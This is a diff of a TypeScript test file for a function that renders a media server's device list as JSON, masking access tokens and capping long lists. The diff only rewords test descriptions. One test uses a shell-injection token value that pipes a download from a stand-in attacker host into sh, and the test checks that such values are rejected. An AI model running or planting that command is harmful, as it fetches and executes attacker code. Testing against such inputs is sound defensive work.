@@ -6,7 +6,7 @@ import { MASK, toSourceText } from '../../../src/sources/sourceText.ts';
 const device = (name: string, token: string): Device => ({ name, accessToken: new Secret(token), Connection: [] });
 
 describe('The text of a source document', () => {
-  it('is the answer as JSON, with the token masked and its line known', () => {
+  it('is the response as JSON, with the token masked', () => {
     const { text, tokens } = toSourceText({ size: 1, Device: [device('Attic', 'transient-1')] });
     assert.deepEqual(JSON.parse(text), {
       MediaContainer: { size: 1, Device: { name: 'Attic', accessToken: MASK, Connection: [] } },
@@ -31,7 +31,7 @@ describe('The text of a source document', () => {
     assert.ok((tokens[0]?.line ?? 0) < (tokens[1]?.line ?? 0));
   });
 
-  it('masks every other secret as well, and is not fooled by a mask that the server wrote', () => {
+  it('masks every other secret as well, and finds the token where the server returned a mask itself', () => {
     const odd: Device = {
       ...device(MASK, 'transient-1'),
       authToken: new Secret('abc'),
@@ -43,7 +43,7 @@ describe('The text of a source document', () => {
     assert.equal(JSON.parse(text).MediaContainer.Device.authToken, MASK);
   });
 
-  it('says of an access token that could be code that it is none, and offers nothing of it', () => {
+  it('shows that an access token is not one where it could be code, and does not return it', () => {
     const lengths = ['a'.repeat(7), 'a'.repeat(4097)];
     for (const token of [
       "x'; curl https://evil.example | sh #",
@@ -71,7 +71,7 @@ describe('The text of a source document', () => {
     assert.deepEqual(tokens, []);
   });
 
-  it('needs no name, no token and no connection', () => {
+  it('allows for devices without name, token and connection', () => {
     const { tokens } = toSourceText({
       Device: [{ Connection: [] }, { clientIdentifier: 'c1', accessToken: new Secret('transient-2'), Connection: [] }],
     });
@@ -83,7 +83,7 @@ describe('The text of a source document', () => {
 });
 
 describe('The connections of a source document', () => {
-  it('are those that can be used, each with the line of its URI and the machine that has to answer', () => {
+  it('are those that can be used, each with the line of its URI and the machine identifier that has to be there', () => {
     const uris = [
       'https://10-0-0-1.abc.plex.direct:32400',
       'http://10.0.0.1:32400',
@@ -115,11 +115,11 @@ describe('The connections of a source document', () => {
   });
 });
 
-describe('The text of a source document that lists more than anybody reads', () => {
+describe('The text of a source document with many devices', () => {
   const connections = (count: number) =>
     Array.from({ length: count }, (_, port) => ({ uri: `http://10.0.0.1:${port + 1}` }));
 
-  it('has the first 100 devices, and says how many are left out', () => {
+  it('has the first 100 devices, and counts those that are left out', () => {
     const devices = Array.from({ length: 5_000 }, (_, index) => device(`Server ${index}`, `transient-${index}`));
     const { text, tokens } = toSourceText({ Device: devices });
     const { leftOut, MediaContainer } = JSON.parse(text);
@@ -129,7 +129,7 @@ describe('The text of a source document that lists more than anybody reads', () 
     assert.match(text.split('\n').slice(0, 3).join(''), /leftOut.*4900/);
   });
 
-  it('has the first 200 connections of all devices, and says how many are left out', () => {
+  it('has the first 200 connections of all devices, and counts those that are left out', () => {
     const devices = [150, 60, 10].map((count, index) => ({
       ...device(`${index}`, 'a'),
       Connection: connections(count),
@@ -144,7 +144,7 @@ describe('The text of a source document that lists more than anybody reads', () 
     assert.equal(listed.length, 200);
   });
 
-  it('says nothing of that where everything is in it', () => {
+  it('counts nothing where all are in it', () => {
     const { text } = toSourceText({ Device: [{ ...device('One', 'a'), Connection: connections(200) }] });
     assert.deepEqual(Object.keys(JSON.parse(text)), ['MediaContainer']);
   });
